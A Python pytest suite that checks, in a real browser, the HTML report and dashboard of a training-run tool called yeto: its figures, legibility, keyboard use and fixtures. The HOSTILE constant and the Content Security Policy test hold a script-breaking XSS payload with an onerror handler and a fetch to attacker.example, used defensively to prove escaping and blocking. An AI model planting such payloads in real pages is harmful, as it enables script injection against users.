"""The page in a real browser: its numbers, its manners, and its use without a mouse or a screen."""

import json
import re
import shutil
import subprocess
import sys

import pytest
from browser import CONTRAST, UNNAMED, Watched, browser, needs_browser

from yeto.cli.main import main
from yeto.view.report import read_data, write_page
from yeto.view.units import size

pytestmark = [pytest.mark.begins_early, needs_browser]

DESK = {"width": 1280, "height": 800}
TELEPHONE = {"width": 360, "height": 800}

HOSTILE = "</script><img src=x onerror=\"document.title='taken'\"><b>&amp;\u2028"


@pytest.fixture(scope="module")
def chromium():
    with browser() as found:
        yield found


@pytest.fixture(scope="module")
def tape(fixtures, tmp_path_factory):
    return shutil.copy(
        fixtures / "tapes" / "faulty-v1.jsonl", tmp_path_factory.mktemp("run") / "events.jsonl"
    )


@pytest.fixture(scope="module")
def report(tape):
    """A report of the faulty run, with a loss that one of its learners logged."""
    log = tape.parent / "learner-2.jsonl"
    steps = [{"kind": "step", "global_step": step, "loss": 5.0 - step / 10} for step in range(1, 24)]
    log.write_text("".join(json.dumps(step) + "\n" for step in steps))
    path = tape.parent / "report.html"
    write_page(path, read_data(tape, [log]))
    return path


@pytest.fixture(scope="module")
def opened(chromium, report):
    """The report in a light browser on a desk: to open it takes longer than to look at it."""
    with Watched(chromium, report.as_uri(), viewport=DESK, color_scheme="light") as watched:
        watched.open(report.as_uri())
        yield watched


@pytest.fixture
def page(opened):
    """The opened report; whoever changes it puts it back."""
    yield opened.page
    opened.check()


@pytest.fixture
def yeto(capsys):
    """Run a command; return the JSON that it prints."""

    def run(*words):
        with pytest.raises(SystemExit) as end:
            main([str(word) for word in words])
        assert end.value.code == 0
        return json.loads(capsys.readouterr().out)

    return run


def fact(page, name):
    return page.locator(f"//dl/div[dt[.='{name}']]/dd").inner_text()


def test_its_numbers_are_those_of_replay_and_status(page, tape, yeto):
    state = yeto("replay", tape, "--state")
    status = yeto("status", tape, "--once", "--json")
    assert fact(page, "Rounds") == f"{state['step']} of {status['total_steps']}"
    assert fact(page, "Attempts").startswith(str(status["attempts"]))
    restarts = status["session"]["restarts"]
    assert fact(page, "Starts").split() == [
        *(str(restarts + 1), str(restarts)),
        *f"restarts, {status['superseded']} commits taken back".split(),
    ]
    rows = page.locator("//table[starts-with(caption, 'Learners')]/tbody/tr")
    heads = page.locator("//table[starts-with(caption, 'Learners')]/thead//th").all_text_contents()
    ledger = state["ledger"]
    assert rows.count() == len(status["learners"])
    for row, learner in zip(rows.all(), status["learners"], strict=True):
        cells = row.locator("th, td").all_text_contents()
        told = dict(zip(heads, cells, strict=True))
        assert told["learner"] == str(learner["learner"])
        assert told["link"].endswith(learner["link"])
        assert told["merges"] == str(learner["merges"]) == str(ledger[str(learner["learner"])]["merges"])
        assert told["contribution"].strip() == percent(learner["contribution"])
        assert told["sent"] == size(learner["bytes_in"])
        # Nobody is connected any more, but how fast they were is known.
        assert re.fullmatch(r"[\d.]+", told["steps/s"])
        assert re.fullmatch(r"[\d,]+", told["tokens/s"])
    refusals = page.locator("//table[starts-with(caption, 'What was refused?')]")
    assert refusals.locator("tbody tr").count() == len(status["refusals"])
    pushes, connections = (
        sum(one["count"] for one in status["refusals"] if one["what"] == what)
        for what in ("push", "connection")
    )
    assert f"{pushes} pushes and {connections} connections in all" in refusals.locator("caption").inner_text()
    slow = page.locator("//table[starts-with(caption, 'Which rounds were the slowest')]")
    # Those that were retried were so once.
    assert " in 1 attempt before" in slow.inner_text()
    assert "attempts before" not in slow.inner_text()
    assert "Does the loss fall?" in page.locator("figure:visible h3").all_inner_texts()
    assert_sensible(page)


def percent(share):
    return f"{100 * share:.1f} %"


def test_it_can_be_read_at_any_width(page):
    for viewport in (TELEPHONE, DESK):
        page.set_viewport_size(viewport)
        assert_legible(page)


def test_it_can_be_read_in_the_dark_scheme(chromium, report):
    with Watched(chromium, report.as_uri(), viewport=TELEPHONE, color_scheme="dark") as watched:
        page = watched.open(report.as_uri())
        assert_legible(page)
        page.set_viewport_size(DESK)
        assert_legible(page)


DRAWN = """() => {
  const copy = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
  copy.drawImage(document.querySelector("#time canvas"), 0, 0);
  return new Set(copy.getImageData(0, 0, 300, 40).data).size > 4;
}"""
"""Whether something was drawn: a canvas of one colour has one value. A copy is read, because the browser
complains about an ordinary canvas that is read twice."""


def assert_legible(page):
    # Pictures are drawn anew for another width as soon as the browser has told them.
    page.wait_for_function("document.documentElement.scrollWidth <= window.innerWidth")
    assert page.evaluate(CONTRAST) == []
    assert page.evaluate(UNNAMED) == []
    page.wait_for_function(DRAWN)


def test_the_keys_reach_a_round_and_its_story(page):
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "now"
    pictures = page.locator("#time [role=slider]")
    pictures.first.focus()
    for key, step in (("Home", 1), ("ArrowRight", 2), ("End", 24), ("ArrowLeft", 23)):
        page.keyboard.press(key)
        assert pictures.first.get_attribute("aria-valuetext").startswith(f"Round {step},")
    page.keyboard.press("Enter")
    story = page.get_by_role("dialog")
    assert story.get_by_role("heading").first.inner_text() == "Round 23"
    page.keyboard.press("Escape")
    assert page.get_by_role("dialog").count() == 0
    assert pictures.first.evaluate("element => element === document.activeElement")


STARTS = [
    ("end", "start 4: the one before ended with exit code 3; resumed from step 24; commits taken back: none"),
    (
        "16",
        "start 3: the one before ended with exit code 1; resumed from step 15; commits taken back: 16 to 18",
    ),
    (
        "7",
        "start 2: the one before ended without an exit code; resumed from step 6; commits taken back: 7 to 8",
    ),
]


def test_its_log_has_every_fault_and_every_start_says_how_the_one_before_ended(page):
    log = page.locator("//table[starts-with(caption, 'What went wrong')]")
    assert log.locator("tbody tr").count() > 60
    assert "of " not in log.locator("caption .note").inner_text()
    starts = log.locator("tbody tr", has_text="restart").filter(has_text="the one before ended")
    told = [row.locator("th, td").all_text_contents() for row in starts.all()]
    assert [(round_, text) for _, round_, _, text in told] == STARTS
    # The plot has the last one, too, after all rounds.
    grid = page.locator("#time [role=slider]").nth(1)
    grid.focus()
    page.keyboard.press("End")
    assert grid.get_attribute("aria-valuetext").startswith("After the last round: ")
    assert "1 restart" in grid.get_attribute("aria-valuetext")
    page.keyboard.press("Enter")
    assert page.get_by_role("dialog").count() == 0


def test_who_was_refused_is_not_said_to_be_silent(page):
    grid = page.locator("#learners [role=slider]").first
    grid.focus()
    page.keyboard.press("Home")
    for _ in range(4):
        page.keyboard.press("ArrowRight")
    assert "learner 1 refused (it holds NaN or Inf" in grid.get_attribute("aria-valuetext")
    page.keyboard.press("Enter")
    story = page.get_by_role("dialog").inner_text()
    page.keyboard.press("Escape")
    assert "Learner 1's push was refused: it holds NaN or Inf" in story
    assert "No answer from learner 1" not in story


def test_what_the_closing_sweep_waited_for_is_not_called_grace(page):
    waited = page.locator("figure", has_text="How long did rounds wait after their quorum?")
    assert "of the closing sweep" in waited.locator(".answer").inner_text()
    page.locator("#time [role=slider]").first.focus()
    for key in ("End", "ArrowLeft", "Enter"):
        page.keyboard.press(key)
    story = page.get_by_role("dialog").inner_text()
    page.keyboard.press("Escape")
    assert "closing sweep has no grace: it waits for every live member" in story


def test_a_report_asks_the_network_for_nothing_and_runs_only_its_own_scripts(page, opened):
    opened.check()
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"taken = 1\">')")
    assert page.evaluate("fetch('https://attacker.example/').then(() => 1, () => 0)") == 0
    assert page.evaluate("'taken' in window") is False
    assert any("Content Security Policy" in error for error in opened.errors)
    page.evaluate("document.body.lastElementChild.remove()")
    opened.errors.clear()
    opened.strangers.clear()


def test_what_a_tape_says_is_text_and_nothing_else(chromium, tape, tmp_path):
    data = read_data(tape, [])
    moment = data["moment"]
    moment["session"]["session_id"] = moment["wait"]["sentence"] = data["made"]["tape"] = HOSTILE
    moment["learners"][0]["link"] = moment["learners"][0]["waited_for"] = HOSTILE
    moment["learners"][0]["waited_since"] = 0.0
    for refusal in moment["refusals"]:
        refusal["why"] = refusal["reason"] = HOSTILE
    for mark in data["history"]["marks"]:
        mark["text"] = mark["kind"] = HOSTILE
    moment["alerts"] = [
        {"severity": "critical", "subject": HOSTILE, "sentence": HOSTILE, "remedy": HOSTILE}
        | {"since": 0.0, "kind": "no_commit"}
    ]
    path = tmp_path / "hostile.html"
    write_page(path, data)
    assert path.read_text(encoding="utf-8").count(HOSTILE) == 0
    with Watched(chromium, path.as_uri()) as watched:
        page = watched.open(path.as_uri())
        assert page.locator("img").count() == 0
        assert "taken" not in page.title()
        assert "<b>&amp;" in page.locator("#session").inner_text()


def assert_sensible(page):
    """What the page says itself; a tape may well speak of a NaN."""
    said = " ".join(page.locator(".facts, .card, .answer, .legend").all_text_contents())
    assert said
    assert not re.search(r"NaN|undefined|null|Infinity|∞", said)


def test_every_fixture_can_be_shown(chromium, fixtures, tmp_path):
    with Watched(chromium, "file://") as watched:
        # Of each story the newest recording.
        tapes = {tape.stem.rpartition("-v")[0]: tape for tape in sorted((fixtures / "tapes").glob("*.jsonl"))}
        for tape in tapes.values():
            lines = tape.read_bytes().splitlines(keepends=True)
            for count in (1, 600) if tape.name.startswith("faulty") else (len(lines),):
                cut, path = tmp_path / "events.jsonl", tmp_path / "report.html"
                cut.write_bytes(b"".join(lines[:count]))
                write_page(path, read_data(cut, []))
                page = watched.open(path.as_uri())
                assert page.locator("#word").inner_text() != ""
                assert_sensible(page)
                # Merges of older formats did not say whether their learners agree.
                agreeing = page.locator("figure:visible", has_text="Do the learners agree?")
                assert agreeing.count() == ("offset_ratio" in cut.read_text())
                if agreeing.count():
                    ratios = [
                        line["offset_ratio"]
                        for line in map(json.loads, lines[:count])
                        if "offset_ratio" in line
                    ]
                    said = re.search(r"(\d+\.\d\d) of their average delta", agreeing.inner_text())
                    assert said, agreeing.inner_text()
                    assert min(ratios) <= float(said[1]) <= max(ratios)


def test_a_dashboard_follows_its_tape(chromium, fixtures, tmp_path, yeto):
    lines = (fixtures / "tapes" / "faulty-v1.jsonl").read_bytes().splitlines(keepends=True)
    tape = tmp_path / "events.jsonl"
    words = [sys.executable, "-m", "yeto", "dashboard", str(tape), "--port", "0"]
    with subprocess.Popen(words, stdout=subprocess.PIPE, text=True) as server:
        try:
            url = server.stdout.readline().split()[-1]
            with Watched(chromium, url) as watched:
                page = watched.page
                page.goto(url)
                page.locator("#connection", has_text="nothing yet").wait_for()
                with tape.open("wb") as file:
                    file.writelines(lines[:400])
                    file.flush()
                    page.wait_for_selector("body[data-ready]")
                    before = fact(page, "Rounds")
                    file.writelines([*lines[400:], b'{"seq":980'])
                page.locator("#word", has_text="Finished").wait_for()
                status = yeto("status", tape, "--once", "--json")
                assert fact(page, "Rounds") == f"{status['step']} of {status['total_steps']}" != before
                page.locator(".card button").click()
                page.wait_for_selector(".lines li")
                assert "committed" in page.inner_text(".lines")
        finally:
            server.terminate()
        assert server.wait() == 0
